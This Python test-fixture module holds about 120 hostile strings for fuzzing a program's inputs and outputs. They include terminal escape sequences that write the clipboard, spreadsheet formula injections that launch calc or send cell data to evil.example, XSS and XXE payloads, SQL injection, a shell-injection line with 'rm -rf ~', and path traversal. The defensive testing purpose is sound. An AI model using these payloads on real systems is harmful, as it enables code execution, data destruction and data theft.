"""Texts that somebody may have put into a name, a label, a report or a file: 120, each with what it tries.

Every place where text comes in, and every place where it goes out, is tried with all of them
(tests.hard_knocks.knocks.strings).
"""

from __future__ import annotations

TEXTS = {
    # What a terminal obeys
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "cursor up": "\x1b[9A\x1b[K",
    "alternate screen": "\x1b[?1049l",
    "mouse": "\x1b[?1003h",
    "asks for a reply": "\x1b[c\x1b[6n\x1b[21t",
    "printer": "\x1b[5i",
    "repeats": "a\x1b[99999999b",
    "long CSI": "\x1b[" + "1;" * 400 + "m",
    "title": "\x1b]0;title\x07",
    "title, ended by ST": "\x1b]2;title\x1b\\",
    "link": "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8K\x07",
    "clipboard asked for": "\x1b]52;c;?\x07",
    "palette": "\x1b]4;1;#000000\x07",
    "notification": "\x1b]9;hello\x07\x1b]777;notify;a;b\x07",
    "file of iTerm2": "\x1b]1337;File=inline=1:AAAA\x07",
    "kitty picture": "\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\",
    "sixel": '\x1bPq"1;1;8;8#0;2;0;0;0#0~\x1b\\',
    "DECRQSS": "\x1bP$qm\x1b\\",
    "tmux's passage": "\x1bPtmux;\x1b\x1b]52;c;YQ==\x07\x1b\\",
    "APC": "\x1b_evil\x1b\\",
    "PM and SOS": "\x1b^evil\x1b\\\x1bXevil\x1b\\",
    "unfinished": "a\x1b]0;",
    "lone escape": "a\x1b",
    "reset": "\x1bc",
    "character set": "\x1b(0lqk\x0e",
    "C1 CSI": "\x9b31mred",
    "C1 OSC": "\x9d52;c;YQ==\x9c",
    "C1 DCS and APC": "\x90q~\x9c\x9fGa=T;AAAA\x9c",
    "C1 next line": "a\x85b\x84c",
    "bell": "\a" * 9,
    "backspaces": "good\b\b\b\bevil",
    "delete": "a\x7fb",
    "NUL": "a\0b",
    "every control": "".join(map(chr, range(1, 32))),
    "XOFF": "\x13a\x11",
    # What changes how characters stand
    "right to left": "\u202egnp.exe",
    "bidi override, closed": "a\u202ecba\u202cd",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "Trojan source": "/*\u202e } \u2066if (admin)\u2069 \u2066 */",
    "zero width": "ad\u200bm\u200ci\u200dn\u2060",
    "byte order mark": "\ufeffmass",
    "soft hyphen": "car\u00addio",
    "invisible operators": "a\u2061b\u2062c\u2063d",
    "fillers": "\u3164\u115f\u1160\uffa0",
    "blank of Braille": "\u2800\u2800",
    "blanks of all kinds": "a\u00a0b\u2003c\u3000d\u202fe",
    "grapheme joiner": "a\u034fb",
    "500 marks": "a" + "\u0300" * 500,
    "marks of many kinds": "Z\u0351\u036b\u0343\u036a\u0302\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f",
    "enclosing marks": "a\u20dd\u20de\u20e0b",
    "marks alone": "\u0301\u0302\u0303",
    "variation selectors": "\u2764\ufe0f\u2764\ufe0e a\U000e0100b",
    "tags": "flag\U000e0001\U000e0065\U000e007f",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "flags": "\U0001f1e9\U0001f1ea\U0001f1e9",
    "skin": "\U0001f44d\U0001f3ff",
    "wide": "\u80ba\u708e\uff21\uff22",
    "many wide": "\u80ba" * 300,
    "Arabic": "\u0631\u0626\u0629 ABC",
    "Hebrew": "\u05e8\u05d9\u05d0\u05d4 1-2",
    "Devanagari": "\u092b\u0947\u092b\u0921\u093c\u0947",
    "ligature": "\ufb01lm \u0130\u0131",
    "private and unassigned": "\ue000\U0010ffff\ufdd0\u0378",
    "lone surrogate": "a\udc80b",
    "surrogates reversed": "\udc00\ud800",
    "look-alikes": "\u0430\u0440\u0440\u04cf\u0435",
    "annotations": "\ufff9a\ufffab\ufffb",
    # Lines and blanks
    "newline": "a\nb",
    "carriage return": "good\rbad ",
    "newlines of all kinds": "a\r\nb\x0bc\x0cd\x1ce\x85f\u2028g\u2029h",
    "many newlines": "\n" * 200,
    "tabs": "a\tb\t\tc",
    "empty": "",
    "blanks only": " \t \n ",
    "one megabyte": "m" * (1 << 20),
    "one long word": "x_" * 400,
    # What other programs run
    "formula": "=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "newline formula": "\n=1+1",
    "blank formula": "  =1+1",
    "full-width formula": "\uff1d1+1",
    "quoted formula": '"=1+1',
    "apostrophe formula": "'=1+1",
    "semicolon formula": "a;=1+1;b",
    "comma formula": 'a","=1+1',
    "hidden formula": "\ufeff\u200b=1+1",
    "no-break formula": "\u00a0=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"a")',
    "markup of Textual": "[bold red]x[/]",
    "markup closed": "[/]",
    "markup escaped": "a\\[b",
    "markup that acts": "[@click=app.quit]here[/]",
    "markup of a link": "[link=http://evil.example]a[/link]",
    "script": "</script><script>document.title='run'</script>",
    "picture": "\"><img src=x onerror=\"document.title='run'\">",
    "attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "svg": "<svg onload=alert(1)><style>*{display:none}</style></svg><!--",
    "address": "javascript:alert(1)",
    "CDATA": "]]><x/><!ENTITY a SYSTEM 'file:///etc/passwd'>&a;",
    "Markdown": "[a](javascript:alert(1)) ![b](http://evil.example) `c` | # d\n---",
    "SQL": "'; DROP TABLE images; --",
    "SQL, quoted": '"); ATTACH \'/tmp/x\' AS x; --',
    "format": "{0.__class__.__init__.__globals__} %s %n {x!r:>99999}",
    "mathtext": r"$\frac{1}{0}$ $x^",
    "TOML": '"""\n[run]\nout = "/tmp/evil"\n#',
    "JSON": '", "a": {"b": [1e999, "\\ud800"]}, "c": "',
    "shell": "$(touch /tmp/evil) `id` ; rm -rf ~ | sh & ${IFS}",
    # Paths
    "parent": "../../../../tmp/evil",
    "absolute": "/etc/passwd",
    "Windows": "C:\\Windows\\..\\evil|\\\\host\\share\\CON.png",
    "option": "-rf",
    "home": "~/evil/.",
}  # fmt: skip
"""What it tries -> the text"""


def storable(text: str) -> bool:
    """Whether a text can be written as UTF-8, as a run file and a verdict log hold it."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


MARKUP = tuple(TEXTS[name] for name in ("script", "picture", "attribute", "svg", "CDATA", "right to left", "NUL"))
"""Some that would be markup"""
